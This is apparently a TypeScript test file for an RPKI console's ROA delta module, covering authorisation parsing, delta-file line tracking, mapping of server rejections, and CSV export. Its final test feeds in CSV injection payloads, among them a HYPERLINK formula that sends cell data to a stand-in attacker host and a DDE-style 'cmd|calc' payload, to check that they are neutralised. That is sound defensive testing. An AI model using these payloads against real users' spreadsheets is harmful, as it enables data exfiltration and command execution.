/** The console's staged ROA changes (src/ui/roa-delta.ts): delta files read with line numbers, the server's refusal tied back to each line. */
import t from 'tap'
import { authorisationText, csvCell, deltaOf, keyOf, markProblems, parseAuthorisation, parseDeltaFile, roasCsv } from '../../../src/ui/roa-delta.js'

t.test('authorisations as text', async (t) => {
  t.same(parseAuthorisation('10.0.0.0/24 => 65000'), { prefix: '10.0.0.0/24', max_length: 24, asn: 65000 })
  t.same(parseAuthorisation(' 2001:DB8::/32-48 => AS64512 '), { prefix: '2001:DB8::/32', max_length: 48, asn: 64512 })
  t.throws(() => parseAuthorisation('10.0.0.0 => 1'), /is not "<prefix>/)
  t.throws(() => parseAuthorisation('10.0.0.0/8 => AS4294967296'), /not an AS number/)
  t.equal(authorisationText({ prefix: '10.0.0.0/24', max_length: 24, asn: 1 }), '10.0.0.0/24 => 1')
  t.equal(authorisationText({ prefix: '10.0.0.0/16', max_length: 20, asn: 1 }), '10.0.0.0/16-20 => 1')
  t.equal(keyOf({ prefix: '2001:0DB8:0::/32', max_length: 32, asn: 5 }), keyOf({ prefix: '2001:db8::/32', asn: 5 }), 'IPv6 spellings are one key')
  t.not(keyOf({ prefix: '10.0.0.0/16', max_length: 16, asn: 5 }), keyOf({ prefix: '10.0.0.0/16', max_length: 17, asn: 5 }))
})

t.test('a delta file: lines staged with their numbers, unreadable lines reported', async (t) => {
  const { staged, errors } = parseDeltaFile('# header\n\nA: 10.0.0.0/24 => 65000 # office\r\nR: 10.1.0.0/16-20 => AS65001\nX: nonsense\nA: 10.2.0.0 => 1\n', 'd.txt')
  t.same(staged, [
    { kind: 'add', roa: { prefix: '10.0.0.0/24', max_length: 24, asn: 65000, comment: 'office' }, source: 'd.txt line 3' },
    { kind: 'remove', roa: { prefix: '10.1.0.0/16', max_length: 20, asn: 65001 }, source: 'd.txt line 4' },
  ])
  t.same(errors, ['d.txt line 5: expected "A: …" or "R: …"', `d.txt line 6: '10.2.0.0 => 1' is not "<prefix>[-<max length>] => <asn>"`])
  t.same(deltaOf(staged), { added: [{ asn: 65000, prefix: '10.0.0.0/24', max_length: 24, comment: 'office' }], removed: [{ asn: 65001, prefix: '10.1.0.0/16', max_length: 20 }] })
})

t.test("the server's delta_error lists, tied to the staged lines", async (t) => {
  const { staged } = parseDeltaFile('A: 10.0.0.0/24 => 1\nA: 192.168.0.0/24 => 2\nA: 10.0.0.0/24-20 => 3\nR: 10.9.0.0/16 => 9\nA: 2001:db8:0::/48 => 4\n', 'f')
  const body = {
    label: 'ca-roa-delta-error',
    msg: 'Delta rejected',
    args: {},
    delta_error: {
      notheld: [{ asn: 2, prefix: '192.168.0.0/24' }, { asn: 4, prefix: '2001:db8::/48' }],
      invalid_length: [{ asn: 3, prefix: '10.0.0.0/24', max_length: 20, reason: 'max length 20 is shorter than the prefix' }],
      unknowns: [{ asn: 9, prefix: '10.9.0.0/16' }, { asn: 8, prefix: '10.8.0.0/16' }],
    },
  }
  const marked = markProblems(staged, body)
  t.same(marked.staged.map((s) => [s.source, s.problem]), [
    ['f line 1', undefined],
    ['f line 2', 'the CA does not hold this prefix'],
    ['f line 3', 'invalid max length: max length 20 is shorter than the prefix'],
    ['f line 4', 'not configured, so it cannot be removed'],
    ['f line 5', 'the CA does not hold this prefix'],
  ])
  t.same(marked.unmatched, ['10.8.0.0/16 => 8: not configured, so it cannot be removed'], 'a problem no staged line matches is kept')
  t.same(markProblems(marked.staged, { label: 'x' }).staged.map((s) => s.problem), [undefined, undefined, undefined, undefined, undefined], 'marks are cleared on the next try')
})

t.test('CSV export', async (t) => {
  t.equal(roasCsv([{ asn: 1, prefix: '10.0.0.0/24', max_length: 24, comment: null }, { asn: 2, prefix: '10.1.0.0/16', max_length: 20, comment: 'a, "quoted" one' }]), 'asn,prefix,max_length,comment\r\n1,10.0.0.0/24,24,\r\n2,10.1.0.0/16,20,"a, ""quoted"" one"\r\n')
})

t.test('CSV export: formula cells are neutralised (issue 22 defect 11, OWASP CSV injection)', async (t) => {
  const row = (comment: string) => roasCsv([{ asn: 65000, prefix: '10.0.0.0/24', max_length: 24, comment }]).split('\r\n')[1]
  t.equal(row('=HYPERLINK("https://evil.example/?"&A1,"click")'), `65000,10.0.0.0/24,24,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`, '=HYPERLINK(…) is text')
  t.equal(row('+1+cmd|calc!A0'), "65000,10.0.0.0/24,24,'+1+cmd|calc!A0")
  t.equal(row('-2+3'), "65000,10.0.0.0/24,24,'-2+3")
  t.equal(row('@SUM(1,1)'), `65000,10.0.0.0/24,24,"'@SUM(1,1)"`)
  t.equal(row('\t=1+1'), "65000,10.0.0.0/24,24,'\t=1+1")
  t.equal(row('\r=1+1'), `65000,10.0.0.0/24,24,"'\r=1+1"`)
  t.equal(row('  =1+1'), "65000,10.0.0.0/24,24,'  =1+1", 'after leading spaces too')
  t.equal(row('- old customer, moved'), `65000,10.0.0.0/24,24,"'- old customer, moved"`, 'a comment that begins with - keeps its text after the quote mark')
  t.equal(row('-42'), '65000,10.0.0.0/24,24,-42', 'a plain number stays a number')
  t.equal(row('customer = ACME'), '65000,10.0.0.0/24,24,customer = ACME', 'a = inside is no formula')
  t.equal(row('AS-ACME'), '65000,10.0.0.0/24,24,AS-ACME')
  t.equal(csvCell('=1'), "'=1")
  t.equal(csvCell('10.0.0.0/24'), '10.0.0.0/24')
})
